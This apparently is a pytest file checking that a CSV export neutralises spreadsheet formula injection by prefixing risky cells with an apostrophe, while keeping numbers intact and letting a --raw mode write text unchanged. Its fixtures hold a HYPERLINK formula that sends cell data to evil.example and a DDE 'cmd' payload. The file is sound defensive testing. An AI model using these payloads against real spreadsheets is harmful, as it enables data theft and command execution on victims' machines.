"""CSV export never hands a spreadsheet a formula: text from a run that starts like one gets a
leading ' (OWASP's rule), numbers stay numbers, and ``--raw`` writes the text as it is."""

from __future__ import annotations

import csv
import io

import pytest

from app.queue.control import cancel
from app.queue.submit import submit
from tests.helpers import moe

NAME = '=HYPERLINK("http://evil.example/?"&A1,"x")'
SOURCE = "=cmd|' /C calc'!A0"


@pytest.fixture
def hostile_runs(ws):
    """Two runs, cancelled before they start (no daemon): a formula for a name and a config value,
    and text starting with + - @ tab and CR beside a negative number."""
    runs = [submit(ws, ["mheight-import", "--source", SOURCE], name=NAME),
            submit(ws, ["mheight-generate", "--p-low=-0.5", "--p-high=2"], name="+1\t@x")]
    for r in runs:
        cancel(ws, r.run_id)
    return {r.kind: r.run_id for r in runs}


def exported(ws, *flags: str) -> dict[str, dict]:
    out = moe(ws.root, "export", "--out", "-", *flags)
    assert out.returncode == 0, out.stderr
    return {row["run_id"]: row for row in csv.DictReader(io.StringIO(out.stdout))}


def test_formulas_are_neutralised_and_numbers_stay_numbers(ws, hostile_runs):
    rows = exported(ws)
    imp, gen = rows[hostile_runs["mheight-import"]], rows[hostile_runs["mheight-generate"]]
    assert imp["name"] == "'" + NAME and imp["config.source"] == "'" + SOURCE
    assert gen["name"] == "'+1\t@x" and gen["config.p_low"] == "-0.5" and gen["config.p_high"] == "2.0"
    for text in ("-x", "@x", "\tx", "\rx"):
        assert write_one(text) == "'" + text
    assert write_one(-0.5) == "-0.5" and write_one(-3) == "-3" and write_one("a=b") == "a=b"
    assert write_one("a\rb") == "a\rb"  # a CR inside a cell is quoted, not the end of a row


def test_raw_writes_the_text_as_it_is(ws, hostile_runs):
    rows = exported(ws, "--raw")
    imp = rows[hostile_runs["mheight-import"]]
    assert imp["name"] == NAME and imp["config.source"] == SOURCE


def write_one(value) -> str:
    from app.export import write_csv

    buf = io.StringIO()
    write_csv(["v"], [{"v": value}], buf)
    return next(csv.DictReader(io.StringIO(buf.getvalue())))["v"]
